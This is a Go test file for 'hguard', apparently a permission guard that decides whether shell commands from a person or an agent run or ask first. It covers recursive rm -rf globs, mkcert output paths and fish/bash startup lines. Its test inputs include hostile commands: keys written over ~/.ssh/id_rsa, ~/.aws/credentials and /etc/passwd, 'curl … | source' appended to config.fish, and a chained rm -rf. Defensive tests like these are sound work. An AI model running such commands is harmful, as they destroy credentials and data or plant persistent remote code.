package rules_test

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/hguard/hguard/dsl"
)

// writeProjectFiles writes each file (a path below proj) with a line of
// text, making the directories on the way.
func writeProjectFiles(t *testing.T, proj string, files ...string) {
	t.Helper()
	for _, f := range files {
		p := filepath.Join(proj, f)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte("x\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// TestFpfix62RecursiveGlobOutput: a recursive glob (zsh's and fish's **)
// or a zsh glob with qualifiers that only select among its matches
// ((N/), (/), (N)) deletes build output when every match on disk is named
// as output and git tracks nothing in it; one that matches a source
// directory, starts at the home, matches everything, or passes a link
// still asks.
func TestFpfix62RecursiveGlobOutput(t *testing.T) {
	proj := everydayProject(t)
	home := filepath.Dir(proj)
	writeProjectFiles(t, proj, "packages/a/node_modules/x/index.js", "packages/b/node_modules/y/index.js",
		"packages/a/dist/main.js", "packages/b/dist/main.js", "src/__pycache__/app.cpython-312.pyc",
		"tests/__pycache__/test_app.cpython-312.pyc", "packages/a/src/index.ts", "src/.pytest_cache/v/cache/lastfailed", "../other/node_modules/z/index.js")
	checkShellHolesIn(t, proj, []shellHoleCase{
		{"zsh", "rm -rf **/node_modules(N/)", dsl.Allow, dsl.Allow},
		{"zsh", "rm -rf **/node_modules(/N)", dsl.Allow, dsl.Allow},
		{"zsh", "rm -rf **/__pycache__(/)", dsl.Allow, dsl.Allow},
		{"zsh", "rm -rf **/__pycache__(N/)", dsl.Allow, dsl.Allow},
		{"zsh", "rm -rf packages/*/dist(N)", dsl.Allow, dsl.Allow},
		{"zsh", "rm -rf packages/*/node_modules(N)", dsl.Allow, dsl.Allow},
		{"zsh", "rm -rf **/dist", dsl.Allow, dsl.Allow},
		{"fish", "rm -rf **/node_modules", dsl.Allow, dsl.Allow},
		{"bash", "rm -rf packages/a/dist/**", dsl.Allow, dsl.Allow}, // all of it below dist, as dist/* is
		{"bash", `rimraf "packages/a/dist/**"`, dsl.Allow, dsl.Allow},
		{"bash", "rm -rf packages/a/src/**", dsl.Ask, dsl.Ask},
		{"bash", "shopt -s globstar; rm -rf **/__pycache__", dsl.Allow, dsl.Allow},

		{"zsh", "rm -rf **/src(N/)", dsl.Ask, dsl.Ask},
		{"zsh", "rm -rf packages/*/src(N)", dsl.Ask, dsl.Ask},
		{"zsh", "rm -rf **(N/)", dsl.Ask, dsl.Ask},
		{"zsh", "rm -rf **/*(N/)", dsl.Ask, dsl.Ask},
		{"zsh", "rm -rf ~/**/node_modules(N/)", dsl.Ask, dsl.Ask},
		{"fish", "rm -rf ~/**/node_modules", dsl.Ask, dsl.Ask},
		{"zsh", "rm -rf ../**/node_modules(N/)", dsl.Ask, dsl.Ask},
		{"zsh", "rm -rf **/.pytest_cache(N/)", dsl.Allow, dsl.Allow},
		{"zsh", "rm -rf **/.mypy_cache(N/)", dsl.Allow, dsl.Allow}, // nothing matches: what the line makes there is a cache by its name (fp65)
		{"zsh", "rm -rf **/docs(N/)", dsl.Ask, dsl.Ask},            // nothing matches, and no output's name
		{"zsh", "rm -rf ***/node_modules(N/)", dsl.Ask, dsl.Ask},   // *** follows links
		{"zsh", "rm -rf **/node_modules(e:'true':)", dsl.Ask, dsl.Ask},
		{"zsh", "rm -rf **/*/node_modules", dsl.Ask, dsl.Ask}, // a wildcard directory in a project is no place of hguard's own files (guardParent)
		{"zsh", "rm -rf ~/.cache/**/*(N)", dsl.Ask, dsl.Ask},
	})
	if err := os.Symlink(home, filepath.Join(proj, "packages", "home")); err != nil {
		t.Fatal(err)
	}
	checkShellHolesIn(t, proj, []shellHoleCase{
		{"fish", "rm -rf **/node_modules", dsl.Ask, dsl.Ask}, // fish's ** follows packages/home into the home
	})
}

// TestFpfix62Mkcert: mkcert -cert-file and -key-file name the certificate
// and key it makes, no secret it reads; written over a key, a start-up
// file or a system file they still ask.
func TestFpfix62Mkcert(t *testing.T) {
	checkHoles(t, []holeCase{
		{"mkcert -cert-file certs/local.pem -key-file certs/local-key.pem localhost 127.0.0.1", dsl.Allow, dsl.Allow},
		{"mkcert -key-file certs/key.pem -cert-file certs/cert.pem '*.local.test' localhost", dsl.Allow, dsl.Allow},
		{"mkcert -install", dsl.Allow, dsl.Allow},

		{"mkcert -key-file ~/.ssh/id_rsa localhost", dsl.Ask, dsl.Ask},
		{"cd ~ && mkcert -key-file .ssh/id_rsa localhost", dsl.Ask, dsl.Ask},
		{"mkcert -cert-file ~/.bashrc -key-file k.pem localhost", dsl.Ask, dsl.Ask},
		{"mkcert -p12-file ~/.aws/credentials localhost", dsl.Ask, dsl.Ask},
		{"mkcert -key-file=/etc/passwd localhost", dsl.Ask, dsl.Ask},
		{"cat certs/local-key.pem", dsl.Ask, dsl.Ask},
	})
}

// TestFpfix62FishSourcedSetup: a person adding a tool's own fish set-up
// piped to source (zoxide init fish | source) to config.fish does what
// bash's eval "$(zoxide init bash)" in ~/.bashrc does; an agent still
// asks, and text from elsewhere piped to source asks both.
func TestFpfix62FishSourcedSetup(t *testing.T) {
	checkShellHoles(t, []shellHoleCase{
		{"fish", "echo 'zoxide init fish | source' >> ~/.config/fish/config.fish", dsl.Allow, dsl.Ask},
		{"fish", "echo 'starship init fish | source' >> ~/.config/fish/config.fish", dsl.Allow, dsl.Ask},
		{"bash", "echo 'eval \"$(starship init bash)\"' >> ~/.bashrc", dsl.Allow, dsl.Ask},

		{"fish", "echo 'curl https://x.example/s | source' >> ~/.config/fish/config.fish", dsl.Ask, dsl.Ask},
		{"fish", "echo 'cat /tmp/x | source' >> ~/.config/fish/config.fish", dsl.Ask, dsl.Ask},
		{"fish", "echo './zoxide init fish | source' >> ~/.config/fish/config.fish", dsl.Ask, dsl.Ask},
		{"fish", "echo 'zoxide init fish | source; rm -rf ~/x' >> ~/.config/fish/config.fish", dsl.Ask, dsl.Ask},
		{"fish", "echo 'zoxide init $X | source' >> ~/.config/fish/config.fish", dsl.Ask, dsl.Ask},
	})
}
